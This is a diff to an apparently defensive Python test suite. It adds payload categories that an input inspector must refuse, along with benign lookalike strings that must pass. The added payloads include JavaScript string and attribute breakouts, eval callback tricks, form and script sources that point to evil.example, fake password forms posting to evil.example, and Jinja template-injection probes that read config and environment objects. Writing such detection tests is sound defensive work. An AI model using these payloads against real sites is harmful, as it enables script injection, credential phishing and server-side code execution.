@@ -35,6 +35,13 @@ KINDS = {
     "name that resolves to an address": ["http://7f000001.c0a80001.rbndr.us/", "http://make-127.0.0.1-rebind-1.1.1.1-rr.1u.ms/", "http://127-0-0-1.sslip.io/"],
     "escape without its sign": ["..2f..2f..2fetc2fpasswd", "..5c..5cwindows", "2e2e2f2e2e2fetc"],
     "share of the machine itself": ["\\\\localhost\\admin$", "\\\\127.0.0.1\\c$\\x", "//127.0.0.1/share/a"],
+    "end of a script's string": ['"-eval(name)-"', "'-admin.grant(7)-'", '",open(x),"', '"+{toString:alert}+"', "';x=name;'", '".replace(/.*/,eval)+"', '"-logout()//', "`*steal()*`", 'shoes"-$(location.hash)-"', '"?logout():"'],
+    "end of a script's string in a document": ['["-eval(name)-"]', '{"a":"+logout()+"}', '{"-steal()-":1}', '["or 1 or"]'],
+    "function called back": ["[name].map(eval)", "eval?.(name)", "new Promise(alert)", "Array.from([name],eval)", "Reflect.apply(eval,1,[name])", "location=location.hash", "import(name)", "$.getScript(name)", "a=eval,a(name)"],
+    "end of an attribute": ['" autofocus/onfocus=f() x="', '" onpointerenter=open(name) x="', "' id=x tabindex=1 onfocus=go() '", '" type=image formaction=//evil.example x="', '" form=x formaction=https://evil.example type=submit x="', '" ping=//evil.example x="', "' src=//evil.example/x.js '", "x onclick=f() y"],
+    "log-in form of another site": ['<form action="https://evil.example"><input type=password name=p><input type=submit>', "<form method=post action=//evil.example/x>Log in: <input name=p type='password'></form>"],
+    "object of a template engine": ["{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{%if joiner.mro()%}{{x}}{%endif%}", "{%for i in g%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%- set z = namespace -%}{{ z }}"],
+    "expression that is not escaped": ["{{!locals()}}", "{{!9**9**9}}", "{{!_env}}", "{{!x.__class__}}", "{{! help() }}", "{{![x for x in _env]}}", "a{{!vars(request)}}b"],
     "JSON pointer to a prototype": ["/constructor/prototype/admin", "/a/constructor/prototype/x", "/__proto__/x"],
 }  # fmt: skip
 
@@ -56,6 +63,11 @@ def test_a_payload_of_the_kind_is_refused(inspection: Inspection, kind: str) -> 
         *("use glob '*.py' here", "describe yourself", "explain quantum computing", "12:05", "-2"),
         *("select one from the list", "see ../README", "abc..2f3e1d"),
         *("http://192.168.1.10.example.com/", "https://example.com/0x1f", "<form id=a><input name=q>"),
+        *('"red shoes"-(used)', '"index of" +(mp3)', '24" - 27" (wide)', "5' - 6' (tall)", "rock 'n' roll (live)"),
+        *('"a","b(c)","d"', '"total","sum(x)","avg(y)"', 'f("x")-g("y")', '["+1","-1"]', '{"sort":"-created"}', '{"op":"and"}'),
+        *('size="12" href="//cdn.example.com/a.png"', '"best" online = yes', "what does import(name) do", "new Promise(resolve)"),
+        *("{{! a comment }}", "{{!-- a comment (old) --}}", "{{!base}}", "{% for i in items %}{{ i }}{% endfor %}", "{{ namespace }}"),
+        *('"hello," she said, "world"', '"a" - "b"'),
         *("--help", "-o output.txt", "show tables and chairs", "{name}", "{user.name}", "=A1"),
     ],
 )  # fmt: skip
